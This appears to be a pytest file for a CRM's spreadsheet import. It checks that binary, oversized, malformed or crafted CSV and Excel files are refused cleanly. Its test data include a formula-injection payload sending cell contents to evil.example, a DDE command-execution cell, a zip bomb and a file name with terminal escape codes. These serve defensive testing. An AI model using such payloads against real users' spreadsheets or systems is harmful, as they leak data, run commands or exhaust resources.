"""Files that are not what they say, too big, malformed or crafted: one sentence each, nothing written."""

import io
import zipfile

import pytest

from crm_core.errors import InvalidInput
from crm_core.spreadsheet_cells import inert
from epic_clients_app.models import Client
from epic_imports_app.reading import MAX_EXPANDED_BYTES, MAX_FILE_BYTES, refuse_oversized
from tests.imports.conftest import (
    CLIENT_HEADER,
    EVENT_HEADER,
    WEDDING,
    csv_bytes,
    database_snapshot,
    errors_of,
    run_import,
    xlsx_bytes,
)

pytestmark = pytest.mark.django_db

KEVIN = ["Kevin Casey", "kevin@startup.io", "+678 123 456 78", "Cool Startup LLC", "Bill Boquet"]


def refusal(staff, content: bytes, filename: str, *, kind="clients", **options) -> str:
    before = database_snapshot()
    with pytest.raises(InvalidInput) as refused:
        run_import(staff.manager, content, kind=kind, filename=filename, **options)
    assert database_snapshot() == before
    [sentence] = refused.value.errors.values()
    assert sentence.endswith(".") and "\n" not in sentence
    return sentence


def test_formula_cells_are_refused_and_text_that_only_starts_like_one_stays_inert(staff):
    content = csv_bytes([
        CLIENT_HEADER,
        ['=HYPERLINK("http://evil.example?"&A1,"Click")', "a@startup.example", "+33 1 23 45 67 89", "A", "Bill Boquet"],
        ["Eve", "b@startup.example", "+cmd|' /C calc'!A0", "B", "Bill Boquet"],
        ["Mallory", "c@startup.example", "+33 1 23 45 67 89", "=1+1", "Bill Boquet"],
    ], delimiter=",", encoding="utf-8")
    before = database_snapshot()
    report = run_import(staff.manager, content, kind="clients", filename="clients.csv")
    assert [(row, column) for row, column, _message in errors_of(report)] == [
        (2, "Nom"), (3, "Téléphone"), (4, "Société")
    ]
    assert "is a spreadsheet formula" in report["errors"][0]["message"]
    assert database_snapshot() == before

    # "@" or "-" in front of text is only text: stored as typed, and quoted again by the export.
    content = csv_bytes([CLIENT_HEADER, ["@SUM(A1:A9)", "d@startup.example", "+33 1 23 45 67 89", "-2+3 Ventures",
                                         "Bill Boquet"]], delimiter=",", encoding="utf-8")
    assert run_import(staff.manager, content, kind="clients", filename="clients.csv")["errors"] == []
    client = Client.objects.get(email="d@startup.example")
    assert (client.full_name, client.company_name) == ("@SUM(A1:A9)", "-2+3 Ventures")
    assert (inert(client.full_name), inert(client.company_name)) == ("'@SUM(A1:A9)", "'-2+3 Ventures")


@pytest.mark.parametrize(
    "content, expected",
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8, "holds binary data"),
        (xlsx_bytes([CLIENT_HEADER, KEVIN]), "is an Excel workbook or another archive"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "holds binary data"),
        ("Nom;E-mail\nÉmilie;e@x.fr\n".encode("utf-16-le"), "holds binary data"),  # UTF-16 without its BOM
    ],
)
def test_a_binary_file_named_csv_is_refused(staff, content, expected):
    assert expected in refusal(staff, content, "clients.csv")


def test_a_zip_bomb_named_xlsx_is_refused_from_the_sizes_it_declares(staff):
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(MAX_EXPANDED_BYTES // len(chunk) + 1):
                member.write(chunk)
    content = bomb.getvalue()
    assert len(content) < 1024 * 1024  # a few hundred kilobytes that expand past the limit
    sentence = refusal(staff, content, "clients.xlsx")
    assert "would expand to 201 MB when opened" in sentence


@pytest.mark.parametrize(
    "content, filename, expected",
    [
        (b"not a zip at all", "clients.xlsx", "is not an Excel workbook (.xlsx)"),
        (b"Nom;E-mail\r\nAnne;anne@x.fr\r\n", "clients.xlsx", "is text (CSV), not an Excel workbook; name it .csv"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "clients.xlsx", "old Excel format (.xls)"),
        (b"anything", "clients.xls", "old Excel format (.xls)"),
        (b"anything", "clients.ods", "neither a .csv nor an .xlsx file"),
        (b"PK\x05\x06" + b"\x00" * 18, "clients.xlsx", "cannot be read as an Excel workbook"),  # an empty zip
    ],
)
def test_a_file_that_is_not_a_workbook_is_refused(staff, content, filename, expected):
    assert expected in refusal(staff, content, filename)


def test_a_100_mb_file_is_refused_before_it_is_read(staff):
    content = b"Nom;E-mail\n" + b"x" * (100 * 1024 * 1024)
    assert "is 100.0 MB; the import takes files of at most 20 MB" in refusal(staff, content, "clients.csv")
    # Entry points check the size first, without reading the file.
    with pytest.raises(InvalidInput, match="split it into several files"):
        refuse_oversized(filename="/tmp/huge.csv", size=MAX_FILE_BYTES + 1)
    refuse_oversized(filename="/tmp/fine.csv", size=MAX_FILE_BYTES)


@pytest.mark.parametrize("filename, content", [
    ("clients.csv", csv_bytes([CLIENT_HEADER])),
    ("clients.csv", csv_bytes([CLIENT_HEADER, ["", "", "", "", ""], ["  ", "", "", "", ""]])),
    ("clients.xlsx", xlsx_bytes([CLIENT_HEADER])),
])
def test_a_header_only_file_imports_nothing_and_says_so(staff, filename, content):
    assert "has a header row but no rows below it" in refusal(staff, content, filename)


@pytest.mark.parametrize("content", [b"", b"\r\n\r\n   \r\n", b"\xef\xbb\xbf"])
def test_an_empty_file_is_refused(staff, content):
    assert "is empty" in refusal(staff, content, "clients.csv")


def test_duplicate_emails_inside_one_file_are_refused_on_the_later_row(staff):
    content = csv_bytes([CLIENT_HEADER, KEVIN, ["Jacky Blangier", "jacky@loubouzin.grd", "+ 666 12345", "Lou Bouzin",
                                                "Sophie Martin"], ["Kevin C.", "KEVIN@Startup.io", "+1 555 0100",
                                                                   "Other LLC", "Bill Boquet"]])
    before = database_snapshot()
    report = run_import(staff.manager, content, kind="clients", filename="clients.csv")
    assert errors_of(report) == [(4, "E-mail", "Email: this client is already on row 2; give each client once.")]
    assert database_snapshot() == before


def test_the_same_event_twice_in_one_file_is_refused(staff):
    report = run_import(staff.manager, csv_bytes([EVENT_HEADER, WEDDING, WEDDING]), dry_run=True)
    assert errors_of(report) == [
        (3, "N° événement", "Event number: this event is already on row 2; give each event once.")
    ]


def test_a_missing_required_column_stops_the_import_before_any_row(staff):
    header = [name for name in EVENT_HEADER if name != "Lieu"]
    row = [value for name, value in zip(EVENT_HEADER, WEDDING) if name != "Lieu"]
    sentence = refusal(staff, csv_bytes([header, row]), "events.csv", kind="events")
    assert sentence == (
        "The sheet has no column for location (lieu); add it (headers in English or French, docs/import.md)."
    )


def test_a_column_given_twice_is_refused(staff):
    content = csv_bytes([[*CLIENT_HEADER, "Email"], [*KEVIN, "kevin@startup.io"]])
    assert refusal(staff, content, "clients.csv") == "Columns 'E-mail' and 'Email' both give the email; keep one."


def test_unknown_columns_are_named_and_ignored(staff):
    content = csv_bytes([[*CLIENT_HEADER, "Pointure", "", "Remarque interne"], [*KEVIN, "42", "stray", ""]])
    report = run_import(staff.manager, content, kind="clients", filename="clients.csv")
    assert report["ignored_columns"] == ["Pointure", "column G (no header)", "Remarque interne"]
    assert report["created"]["clients"] == 1 and report["errors"] == []


def test_a_value_holding_the_delimiter_without_quotes_is_caught(staff):
    text = "Nom;E-mail;Téléphone;Société;Commercial\nKevin Casey;kevin@startup.io;+678 123;Cool;Startup;Bill Boquet\n"
    report = run_import(staff.manager, text.encode("utf-8"), kind="clients", filename="clients.csv")
    [(row, column, message)] = errors_of(report)
    assert (row, column) == (2, None) and "more cells than the header has columns" in message


def test_an_unknown_sheet_name_lists_the_sheets(staff):
    content = xlsx_bytes([CLIENT_HEADER, KEVIN], title="Clients", more_sheets=[("Archive", [["x"]])])
    with pytest.raises(InvalidInput, match="no sheet named 'Prospects'; its sheets are 'Clients', 'Archive'"):
        run_import(staff.manager, content, kind="clients", filename="clients.xlsx", sheet="Prospects")


@pytest.mark.parametrize("first", [[], [["Read me first"]]], ids=["empty", "header only"])
def test_a_workbook_whose_first_sheet_holds_no_rows_names_its_sheets(staff, first):
    content = xlsx_bytes(first, title="Notes", more_sheets=[("Clients 2023", [CLIENT_HEADER, KEVIN])])
    said = refusal(staff, content, "clients.xlsx")
    assert said.endswith("; its sheets are 'Notes', 'Clients 2023': name the one to import with --sheet "
                         "(sheet= through the API).")
    assert run_import(staff.manager, content, kind="clients", filename="clients.xlsx",
                      sheet="Clients 2023")["created"]["clients"] == 1


def test_excel_error_cells_and_formulas_without_a_value_are_not_taken_for_data(staff):
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(CLIENT_HEADER)
    sheet.append(["=CONCAT(A3,B3)", "kevin@startup.io", "+678 123 456 78", "Cool Startup LLC", "Bill Boquet"])
    out = io.BytesIO()
    workbook.save(out)
    report = run_import(staff.manager, out.getvalue(), kind="clients", filename="clients.xlsx")
    # A formula nobody computed has no value: the cell is empty, never the formula's text.
    assert errors_of(report) == [(2, "Nom", "Full name: this value is required.")]
    assert not Client.objects.exists()


def test_a_file_name_with_terminal_controls_is_shown_and_recorded_harmless(staff):
    """A name is whatever its machine allowed (or an API caller sent): an escape sequence or a
    text-direction control in it would act on the terminal of every manager reading the history."""
    content = csv_bytes([CLIENT_HEADER, KEVIN])
    report = run_import(staff.manager, content, kind="clients", filename="sheets/\x1b[31mevil\u202evsc\n2026.csv")
    assert report["file"] == "?[31mevil?vsc?2026.csv"
    kevin = Client.objects.get(email="kevin@startup.io")
    assert kevin.history.get().history_change_reason == "imported from ?[31mevil?vsc?2026.csv row 2"


def test_a_stray_control_character_is_refused_by_its_row_and_column_not_as_binary(staff):
    rows = [CLIENT_HEADER, *[[f"Client {n}", f"c{n}@x.io", "+678 123 456 78", f"Co {n}", "Bill Boquet"]
                             for n in range(200)]]
    rows[150][3] = "Big Co\x0b149"  # a vertical tab, as some exports write
    errors = errors_of(run_import(staff.manager, csv_bytes(rows), kind="clients", filename="clients.csv"))
    assert [(row, column) for row, column, _ in errors] == [(151, "Société")]


def test_a_cell_longer_than_the_readers_default_limit_is_refused_by_its_row(staff):
    content = csv_bytes([CLIENT_HEADER, ["Kevin Casey", "kevin@startup.io", "+678 123 456 78", "C" * 200_000,
                                         "Bill Boquet"]])
    errors = errors_of(run_import(staff.manager, content, kind="clients", filename="clients.csv"))
    assert [(row, column) for row, column, _ in errors] == [(2, "Société")]


def test_a_quote_never_closed_names_its_row(staff):
    content = (
        "Nom complet,E-mail,Téléphone,Société,Commercial\r\n"
        "Kevin Casey,kevin@startup.io,+678 123 456 78,Cool Startup LLC,Bill Boquet\r\n"
        '"Unbal Person,unb@x.io,+1 555 0604,S,Bill Boquet\r\n'
        "Next Person,next@x.io,+1 555 0605,S,Bill Boquet\r\n"
    ).encode()
    assert refusal(staff, content, "clients.csv") == (
        'Row 3 of clients.csv opens a quote (") that is never closed, so every line after it would be one cell; '
        "close the quote, or remove it."
    )
